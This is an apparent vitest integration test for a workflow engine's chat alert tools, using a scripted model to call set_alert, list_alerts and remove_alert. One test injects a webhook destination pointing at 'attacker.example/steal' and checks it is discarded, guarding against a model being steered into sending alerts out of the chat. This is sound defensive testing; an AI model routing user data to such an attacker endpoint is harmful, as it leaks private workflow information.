import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Role } from '../access/index.ts';
import { createTestDatabase, type TestDatabase } from '../db/testing/test-database.ts';
import { loadSystemPrompt } from '../prompts/load-prompts.ts';
import { createAlertDeliverer, evaluateAlerts, startRun, type WorkflowDocument } from '../runtime/index.ts';
import { createEngineServices, type EngineServices } from '../runtime/services.ts';
import { waitForRun } from '../runtime/store/run-store.ts';
import { agentTools, toolInputJsonSchema } from '../tools/index.ts';
import { type ConversationService, createConversationService } from './conversation-service.ts';
import { createOpenAIProvider } from './providers/openai-provider.ts';
import { createRuntimePorts } from './runtime-ports.ts';
import { testPrincipal } from './testing/principals.ts';
import { type ScriptedModelServer, startScriptedModelServer } from './testing/scripted-model-server.ts';

// Alerts said in a chat: the real OpenAI SDK against a scripted model, the real conversation service and tools, the
// real engine running the workflow, and one alert tick delivering to the conversation the rule was set in.

let db: TestDatabase;
let server: ScriptedModelServer;
let service: ConversationService;
let engine: EngineServices;
let worker: Awaited<ReturnType<EngineServices['startWorker']>>;
const THREAD = 'test:alerts-chat';

beforeAll(async () => {
  db = await createTestDatabase();
  server = await startScriptedModelServer();
  const ports = createRuntimePorts({ sql: db.sql, connectors: [] });
  const provider = createOpenAIProvider({
    model: 'gpt-test',
    apiKey: 'sk-test-key',
    baseURL: server.openaiBaseUrl,
    retry: { maxAttempts: 1, baseDelayMs: 0, maxDelayMs: 0 },
  });
  service = createConversationService({ sql: db.sql, provider, system: loadSystemPrompt(), ...ports });
  engine = await createEngineServices(
    { sql: db.sql, url: db.url, kind: 'external', close: async () => {} },
    { env: { VMESH_SECRET_KEY: Buffer.alloc(32, 7).toString('base64') }, connectors: [] },
  );
  worker = await engine.startWorker({ concurrency: 2 });
});
afterAll(async () => {
  await worker?.stop();
  await server?.close();
  await db?.drop();
});

async function say(
  name: string,
  input: Record<string, unknown>,
  who: { name: string; role: Role } = { name: 'ada', role: 'owner' },
) {
  let answered = { content: '', isError: false };
  server.setScript([
    { toolCalls: [{ name, input }] },
    (request) => {
      const result = request.toolResults[0];
      if (result)
        answered = {
          content: result.content,
          isError: result.isError || result.content.startsWith('ERROR:'),
        };
      return { text: 'Done.' };
    },
  ]);
  await service.handleMessage({
    threadKey: THREAD,
    principal: await testPrincipal(db.sql, who.name, who.role),
    text: `please ${name}`,
  });
  return answered;
}

describe('alerts from the chat', () => {
  it('set_alert makes a rule that tells this conversation; list_alerts shows it; remove_alert ends it', async () => {
    const { id } = await engine.workflows.create(
      {
        schemaVersion: 1,
        name: 'invoice sync',
        trigger: { type: 'manual' },
        nodes: [{ id: 'check', uses: 'core.code', with: { code: 'throw new Error("nope")' } }],
        edges: [],
      } as unknown as WorkflowDocument,
      undefined,
      {},
    );
    // The tool offers no destination: nothing the model reads can send alerts out of the chat.
    const setAlert = agentTools.find((tool) => tool.name === 'set_alert');
    expect(Object.keys(toolInputJsonSchema(setAlert!).properties ?? {}).sort()).toEqual([
      'condition',
      'cooldownMinutes',
      'name',
      'workflowId',
    ]);
    const viewerTry = await say(
      'set_alert',
      { workflowId: id, name: 'nope', condition: { kind: 'poll_stalled' } },
      { name: 'val', role: 'viewer' },
    );
    expect(viewerTry.isError).toBe(true);

    const set = await say('set_alert', {
      workflowId: id,
      name: 'Invoice sync failing',
      condition: { kind: 'failure_rate', windowMinutes: 30, threshold: 0.5, minRuns: 2 },
      destination: { type: 'webhook', url: 'https://attacker.example/steal' },
    });
    expect(set.isError, set.content).toBe(false);
    const rule = JSON.parse(set.content) as { id: string; destination: string };
    expect(rule.destination).toBe('this conversation');
    const [stored] = await db.sql`select destination from alert_rules where id = ${rule.id}`;
    expect(stored?.destination).toMatchObject({ type: 'conversation' });
    expect(JSON.stringify(stored?.destination)).not.toContain('attacker');

    const listed = await say('list_alerts', {});
    expect(JSON.parse(listed.content)).toMatchObject({
      rules: [{ id: rule.id, name: 'Invoice sync failing', condition: { kind: 'failure_rate' } }],
    });

    for (let i = 0; i < 2; i++) {
      const { runId } = await startRun(db.sql, id, {}, {});
      await waitForRun(db.sql, runId, { timeoutMs: 60_000 });
    }
    const conversation = await service.conversationFor(THREAD, await testPrincipal(db.sql, 'ada', 'owner'));
    const result = await evaluateAlerts({
      sql: db.sql,
      publicUrl: 'http://127.0.0.1:3000',
      deliver: createAlertDeliverer(engine.deps, {
        tellConversation: (conversationId, text) => service.tellConversation(conversationId, text),
      }),
    });
    expect(result).toMatchObject({ fired: 1, failed: 0 });
    const notes = await db.sql`
      select replies from conversation_messages
      where conversation_id = ${conversation.id} and actor = 'system:alerts'`;
    expect(notes).toHaveLength(1);
    expect(JSON.stringify(notes[0]?.replies)).toContain('Invoice sync failing');
    expect(JSON.stringify(notes[0]?.replies)).toContain('http://127.0.0.1:3000/#/runs/');

    const removed = await say('remove_alert', { alertId: rule.id });
    expect(JSON.parse(removed.content)).toEqual({ alertId: rule.id, removed: true });
    expect(await db.sql`select 1 from alert_rules where id = ${rule.id}`).toHaveLength(0);
  }, 180_000);
});
